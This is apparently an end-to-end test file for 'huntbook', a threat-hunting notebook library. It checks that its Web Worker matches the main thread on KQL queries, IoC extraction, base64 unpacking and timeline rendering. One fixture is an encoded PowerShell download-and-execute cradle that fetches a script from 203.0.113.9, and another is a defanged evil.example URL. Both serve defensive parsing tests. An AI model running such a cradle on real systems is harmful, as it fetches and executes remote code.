// huntbook.worker() (issue #16, "never freeze the notebook") in headless Chromium: every call answers what the same
// call answers on the main thread (rows, Arrow IPC bytes, HTML, timeline layout and pixels, error text); aborting a
// long KQL query stops the Worker (a new one answers the next call, the old tables say they are gone); while a
// 10^6-row query runs in the Worker the page has no long task over 200 ms (the same query on the page has one, so the
// observer does see them). No console errors, nothing off the loopback server.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { openBrowser, offLoopback } from "./browser.mjs";

let b;
let page;
let errors;
before(async () => {
  b = await openBrowser();
  ({ page, errors } = await b.newPage());
  await page.goto(`${b.base}/e2e/blank.html`);
  await page.evaluate(async () => {
    const hb = await import("/huntbook/index.js");
    await hb.init();
    window.hb = hb;
    window.w = await hb.worker();
    // Rows as JSON text (Dates as ISO, BigInts as text) so both sides compare exactly.
    window.rowsText = (rows) => JSON.stringify(rows, (_k, v) => (typeof v === "bigint" ? `${v}n` : v));
    window.bytesText = (u8) => Array.from(u8).join(",");
  });
});
after(async () => { await b.close(); });

const NOW = Date.UTC(2026, 0, 1);
const HEAVY_KQL = "range x from 1 to 1000000 step 1 | extend k = x % 1000, s = strcat('user', x % 5000) " +
  "| summarize n = count(), d = dcount(s) by k | order by k asc";

test("loadDemo and KQL in the worker give the main thread's tables", async () => {
  const r = await page.evaluate(async (now) => {
    const demo = await hb.loadDemo({ now });
    const wdemo = await w.loadDemo({ now });
    const kql = "SigninLogs | summarize n = count(), last = max(TimeGenerated) by UserPrincipalName, ResultType | order by n desc, UserPrincipalName asc";
    const main = demo.query(kql, { now });
    const t = await wdemo.query(kql, { now });
    const signins = await wdemo.table("SigninLogs");
    return {
      tables: [demo.tables, wdemo.tables],
      shape: [main.shape, t.shape, t.numRows],
      schema: [main.schema, t.schema],
      columns: [main.columns, t.columns],
      rows: [rowsText(main.toRows()), rowsText(await t.toRows())],
      row: [rowsText(main.row(-1)), rowsText(await t.row(-1))],
      ipc: [bytesText(main.toArrowIPC()), bytesText(await t.toArrowIPC())],
      html: [main.toHTML({ maxRows: 5 }), await t.toHTML({ maxRows: 5 })],
      element: [main.toElement().outerHTML, (await t.toElement()).outerHTML, (await hb.display(t)).outerHTML],
      execQuery: rowsText(await (await wdemo.execQuery(kql, { now })).toRows()),
      valueCounts: [rowsText(demo.table("SigninLogs").valueCounts("IPAddress").head(5).toRows()),
        rowsText(await (await (await signins.valueCounts("IPAddress")).head(5)).toRows())],
      signinsShape: [demo.table("SigninLogs").shape, signins.shape],
      first: (await t.toRows(0, 1))[0],
    };
  }, NOW);
  assert.deepEqual(r.tables[1], r.tables[0]);
  assert.ok(r.tables[1].includes("SigninLogs") && r.tables[1].includes("AuditLogs") && r.tables[1].length === 13, r.tables[1].join());
  assert.deepEqual(r.shape[1], r.shape[0]);
  assert.ok(r.shape[1][0] > 10 && r.shape[1][1] === 4, JSON.stringify(r.shape));
  assert.equal(r.shape[2], r.shape[0][0]);
  assert.deepEqual(r.schema[1], r.schema[0]);
  assert.deepEqual(r.columns[1], ["UserPrincipalName", "ResultType", "n", "last"]);
  assert.equal(r.rows[1], r.rows[0]);
  assert.equal(r.row[1], r.row[0]);
  assert.equal(r.ipc[1], r.ipc[0]);
  assert.equal(r.html[1], r.html[0]);
  assert.match(r.html[1], /<table class="huntbook-table">/);
  assert.equal(r.element[1], r.element[0]);
  assert.equal(r.element[2], r.element[0], "display(workerTable) shows the same element");
  assert.equal(r.execQuery, r.rows[0]);
  assert.equal(r.valueCounts[1], r.valueCounts[0]);
  assert.deepEqual(r.signinsShape[1], [2973, 79]);
  assert.ok(typeof r.first.n === "number" && r.first.n > 1, JSON.stringify(r.first));
});

test("readTables of a Log Analytics response in the worker gives the main thread's table", async () => {
  const r = await page.evaluate(async () => {
    const bytes = new Uint8Array(await (await fetch("/fixtures/tour/asn_host_logons.la.json")).arrayBuffer());
    const main = hb.readTables(bytes);
    const copy = bytes.slice();
    const wr = await w.readTables(copy, { transfer: true });
    const text = await w.readTables(new TextDecoder().decode(bytes), { name: "logons" });
    const [m, t] = [main.tables[0], wr.tables[0]];
    return {
      moved: copy.byteLength,
      shape: [m.shape, t.shape, text.tables[0].shape],
      name: [m.name, t.name, text.tables[0].name],
      error: [main.error, wr.error],
      notes: [m.notes, t.notes],
      rows: [rowsText(m.toRows()), rowsText(await t.toRows())],
      ipc: [bytesText(m.toArrowIPC()), bytesText(await t.toArrowIPC())],
    };
  });
  assert.equal(r.moved, 0, "{transfer: true} moves the bytes to the worker");
  assert.deepEqual(r.shape[1], r.shape[0]);
  assert.deepEqual(r.shape[2], r.shape[0]);
  assert.ok(r.shape[0][0] > 0, JSON.stringify(r.shape));
  assert.equal(r.name[2], "logons");
  assert.deepEqual(r.name[1], r.name[0]);
  assert.deepEqual(r.error[1], r.error[0]);
  assert.deepEqual(r.notes[1], r.notes[0]);
  assert.equal(r.rows[1], r.rows[0]);
  assert.equal(r.ipc[1], r.ipc[0]);
});

test("IoC extraction, base64 unpacking and timeline grouping in the worker match the main thread", async () => {
  const r = await page.evaluate(async (now) => {
    const demo = await hb.loadDemo({ now });
    const wdemo = await w.loadDemo({ now });
    const ev = demo.table("SecurityEvent");
    const wev = await wdemo.table("SecurityEvent");
    const iocs = hb.extractIocsTable(ev, ["CommandLine"], { ioc_types: ["ipv4", "url", "dns"] });
    const wiocs = await w.extractIocsTable(wev, ["CommandLine"], { ioc_types: ["ipv4", "url", "dns"] });
    const unpacked = hb.unpackTable(ev, "CommandLine");
    const wunpacked = await w.unpackTable(wev, "CommandLine");
    const text = "see hxxp://evil[.]example/x and 10.1.2.3";
    const opts = { group_by: "Result", source_columns: ["UserPrincipalName", "IPAddress"] };
    const geo = demo.query("SigninLogs | extend Result = iff(ResultType == '0', 'Success', 'Failure')", { now });
    const wgeo = await wdemo.query("SigninLogs | extend Result = iff(ResultType == '0', 'Success', 'Failure')", { now });
    const model = new hb.TimelineModel(geo, opts);
    const wmodel = await w.timelineModel(wgeo, opts);
    const L = model.layout;
    const view = [L.view_start_ms, L.view_end_ms, 400, 120];
    const px = model.render(...view, { copy: true });
    const wpx = await wmodel.render(...view);
    const ov = model.renderOverview(300, 40, { copy: true });
    const wov = await wmodel.renderOverview(300, 40);
    const unpackText = "powershell -enc " + btoa("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')");
    const u = hb.unpack(unpackText);
    const wu = await w.unpack(unpackText);
    return {
      iocs: [iocs.shape, wiocs.shape, rowsText(iocs.toRows()), rowsText(await wiocs.toRows())],
      unpacked: [unpacked.shape, wunpacked.shape, rowsText(unpacked.toRows()), rowsText(await wunpacked.toRows()), unpacked.notes, wunpacked.notes],
      text: [hb.extractIocs(text), await w.extractIocs(text)],
      unpack: [u.text, wu.text, rowsText(u.table.toRows()), rowsText(await wu.table.toRows())],
      layout: [JSON.stringify(L), JSON.stringify(wmodel.layout)],
      groups: L.groups.map((g) => g.label),
      render: [px.visibleEvents, wpx.visibleEvents, bytesText(px.pixels) === bytesText(wpx.pixels), wpx.pixels.length, wpx.pixels.some((v, i) => i % 4 !== 3 && v !== 255)],
      overview: [ov.visibleEvents, wov.visibleEvents, bytesText(ov.pixels) === bytesText(wov.pixels)],
    };
  }, NOW);
  assert.deepEqual(r.iocs[1], r.iocs[0]);
  assert.ok(r.iocs[0][0] > 10, JSON.stringify(r.iocs[0]));
  assert.equal(r.iocs[3], r.iocs[2]);
  assert.deepEqual(r.unpacked[1], r.unpacked[0]);
  assert.ok(r.unpacked[0][0] > 0, JSON.stringify(r.unpacked[0]));
  assert.equal(r.unpacked[3], r.unpacked[2]);
  assert.deepEqual(r.unpacked[5], r.unpacked[4]);
  assert.deepEqual(r.text[1], r.text[0]);
  assert.deepEqual(r.text[1].url, ["http://evil.example/x"]);
  assert.deepEqual(r.text[1].ipv4, ["10.1.2.3"]);
  assert.equal(r.unpack[1], r.unpack[0]);
  assert.match(r.unpack[1], /203\.0\.113\.9\/a\.ps1/);
  assert.equal(r.unpack[3], r.unpack[2]);
  assert.equal(r.layout[1], r.layout[0]);
  assert.deepEqual(r.groups.sort(), ["Failure", "Success"]);
  assert.equal(r.render[1], r.render[0]);
  assert.equal(r.render[1], 2973);
  assert.equal(r.render[2], true, "the worker's pixels are the main thread's");
  assert.equal(r.render[3], 400 * 120 * 4);
  assert.equal(r.render[4], true, "some events are drawn");
  assert.equal(r.overview[1], r.overview[0]);
  assert.equal(r.overview[2], true);
});

test("errors cross with the main thread's class and text", async () => {
  const r = await page.evaluate(async (now) => {
    const demo = await hb.loadDemo({ now });
    const wdemo = await w.loadDemo({ now });
    const seen = async (f) => { try { await f(); return null; } catch (e) { return [e.constructor.name, e.message]; } };
    const signins = demo.table("SigninLogs");
    const wsignins = await wdemo.table("SigninLogs");
    const pairs = [
      [() => demo.query("SigninLogs | where IPAdress == '1'"), () => wdemo.query("SigninLogs | where IPAdress == '1'")],
      [() => signins.select(["IPAdress"]), () => wsignins.select(["IPAdress"])],
      [() => demo.query("SigninLogs", { nowe: 1 }), () => wdemo.query("SigninLogs", { nowe: 1 })],
      [() => hb.extractIocsTable(signins, []), () => w.extractIocsTable(wsignins, [])],
      [() => demo.table("Nope"), () => wdemo.table("Nope")],
    ];
    const out = [];
    for (const [m, wk] of pairs) out.push([await seen(m), await seen(wk)]);
    return out;
  }, NOW);
  for (const [m, wk] of r) {
    assert.ok(m, "the main thread threw");
    assert.deepEqual(wk, m);
  }
  assert.match(r[0][1][1], /did you mean 'IPAddress'/);
});

test("aborting a long KQL query stops the worker; a new one answers and the old tables say they are gone", async () => {
  const r = await page.evaluate(async (now) => {
    const wdemo = await w.loadDemo({ now });
    const before = await wdemo.table("SigninLogs");
    const data = await w.localData();
    const ac = new AbortController();
    const long = data.query("range x from 1 to 3000000 step 1 | extend s = strcat('user', x % 5000), k = x % 1000 | summarize n = count(), d = dcount(s) by k", { signal: ac.signal });
    setTimeout(() => ac.abort(), 300);
    let aborted;
    try { await long; aborted = "resolved"; } catch (e) { aborted = [e.name, e.message]; }
    let gone;
    try { await before.toRows(0, 1); gone = "answered"; } catch (e) { gone = e.message; }
    let goneData;
    try { await wdemo.query("SigninLogs | count"); goneData = "answered"; } catch (e) { goneData = e.message; }
    let pre;
    const ac2 = new AbortController();
    ac2.abort();
    const data2 = await w.localData();
    try { await data2.query("print 1", { signal: ac2.signal }); pre = "resolved"; } catch (e) { pre = e.name; }
    const fresh = await (await w.localData()).query("range x from 1 to 10 step 1 | summarize s = sum(x)");
    const again = await w.loadDemo({ now });
    return { aborted, gone, goneData, pre, fresh: await fresh.toRows(), again: (await again.table("SigninLogs")).shape, version: [await w.version(), hb.version()] };
  }, NOW);
  assert.equal(r.aborted[0], "AbortError", JSON.stringify(r.aborted));
  assert.match(r.aborted[1], /worker was stopped and a new one started; the \d+ table\(s\) and other objects the old worker held are gone/);
  assert.match(r.gone, /restarted when a call was aborted: it is gone/);
  assert.match(r.goneData, /restarted when a call was aborted/);
  assert.equal(r.pre, "AbortError");
  assert.deepEqual(r.fresh, [{ s: 55 }]);
  assert.deepEqual(r.again, [2973, 79], "SigninLogs: 76 schema columns and the 3 standard ones (_ResourceId, _SubscriptionId, _IsBillable)");
  assert.equal(r.version[0], r.version[1]);
});

test("a 10^6-row KQL query in the worker leaves the page without long tasks; on the page it makes one", async () => {
  const r = await page.evaluate(async (kql) => {
    const tasks = [];
    const obs = new PerformanceObserver((list) => { for (const e of list.getEntries()) tasks.push(e.duration); });
    obs.observe({ type: "longtask" });
    const data = await w.localData();
    await new Promise((res) => setTimeout(res, 100));
    tasks.length = 0;
    const t = await data.query(kql);
    await new Promise((res) => setTimeout(res, 100)); // long-task entries are delivered after the task
    const duringWorker = [...tasks];
    const rows = await t.toRows(0, 2);
    tasks.length = 0;
    const main = new hb.LocalData().query(kql);
    await new Promise((res) => setTimeout(res, 100));
    const duringMain = [...tasks];
    obs.disconnect();
    return { duringWorker, duringMain, shape: [t.shape, main.shape], rows: [rowsText(rows), rowsText(main.toRows(0, 2))] };
  }, HEAVY_KQL);
  assert.deepEqual(r.shape[0], [1000, 3]);
  assert.deepEqual(r.shape[1], r.shape[0]);
  assert.equal(r.rows[0], r.rows[1]);
  assert.equal(r.rows[0], JSON.stringify([{ k: 0, n: 1000, d: 5 }, { k: 1, n: 1000, d: 5 }]));
  assert.ok(r.duringMain.some((d) => d > 200), `the observer sees the main-thread query: ${r.duringMain}`);
  assert.deepEqual(r.duringWorker.filter((d) => d > 200), [], `long tasks while the worker ran: ${r.duringWorker}`);
});

test("a terminated worker says so; worker({signal}) aborted before it is ready rejects with an AbortError", async () => {
  const r = await page.evaluate(async () => {
    const w2 = await hb.worker();
    const data = await w2.localData();
    w2.terminate();
    let after;
    try { await data.query("print 1"); after = "answered"; } catch (e) { after = e.message; }
    const ac = new AbortController();
    const starting = hb.worker({ signal: ac.signal });
    ac.abort();
    let start;
    try { await starting; start = "started"; } catch (e) { start = [e.name, e.message]; }
    return { after, start };
  });
  assert.equal(r.after, "huntbook's worker was terminated: start another with `await huntbook.worker()`");
  assert.deepEqual(r.start, ["AbortError", "aborted: huntbook's worker was stopped before it was ready"]);
});

test("no console errors, nothing off the loopback server", () => {
  assert.deepEqual(errors, []);
  assert.deepEqual(offLoopback(b.requests), []);
});
